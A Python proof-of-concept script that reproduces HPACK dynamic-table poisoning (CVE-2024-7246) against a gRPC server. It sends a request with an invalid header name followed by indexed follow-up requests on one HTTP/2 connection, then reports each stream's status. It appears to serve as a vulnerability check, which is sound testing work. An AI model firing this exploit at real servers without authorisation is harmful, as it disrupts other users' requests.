"""HPACK table poisoning (CVE-2024-7246) against a gRPC server: on one connection, a first
request carries a header the server must reject (an upper-case name) followed by valid
headers that HPACK adds to the dynamic table; later requests on the same connection refer to
those entries by index. A poisoned server fails the later requests too.

h2 makes the connection (preface, SETTINGS); the requests are raw frames with one stateful
HPACK encoder, as any HTTP/2 client's would be, and the replies are read with one decoder.

Usage: hpack_poison.py HOST PORT
Prints "STREAM <id> grpc-status=<code>" or "STREAM <id> reset=<error code>" for each request.
"""

import sys

import hpack

from raw_h2 import ACK, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, RST_STREAM, SETTINGS, connect, frame


host, port = sys.argv[1], int(sys.argv[2])


sock, conn = connect(host, port)

encoder = hpack.Encoder()
decoder = hpack.Decoder()
pseudo = [(":method", "POST"), (":scheme", "http"), (":path", "/Greeter/say_hello"), (":authority", f"{host}:{port}")]
after = [("content-type", "application/grpc"), ("te", "trailers"), ("x-good", "yes")]
# HelloRequest{name: "x"} in a gRPC frame.
message = b"\0\0\0\0\x03\x0a\x01x"

requests = [pseudo + [("x-Bad-Name", "1")] + after, pseudo + after, pseudo + after]
streams = []
for i, headers in enumerate(requests):
    stream = 1 + 2 * i
    streams.append(stream)
    block = encoder.encode(headers, huffman=True)
    sock.sendall(frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, message))

outcome = {}
pending = b""
while len(outcome) < len(streams):
    data = sock.recv(1 << 16)
    if not data:
        break
    pending += data
    while len(pending) >= 9:
        length = int.from_bytes(pending[:3], "big")
        if len(pending) < 9 + length:
            break
        kind, flags = pending[3], pending[4]
        stream = int.from_bytes(pending[5:9], "big") & 0x7FFFFFFF
        payload = pending[9 : 9 + length]
        pending = pending[9 + length :]
        if kind == SETTINGS and not flags & ACK:
            sock.sendall(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            sock.sendall(frame(PING, ACK, 0, payload))
        elif kind == HEADERS:
            fields = dict(decoder.decode(payload))
            if flags & END_STREAM:
                outcome[stream] = f"grpc-status={fields.get('grpc-status', 'none')}"
        elif kind == RST_STREAM:
            outcome.setdefault(stream, f"reset={int.from_bytes(payload[:4], 'big')}")
        elif kind == GOAWAY:
            for s in streams:
                outcome.setdefault(s, "goaway")

for stream in streams:
    print(f"STREAM {stream} {outcome.get(stream, 'no answer')}", flush=True)
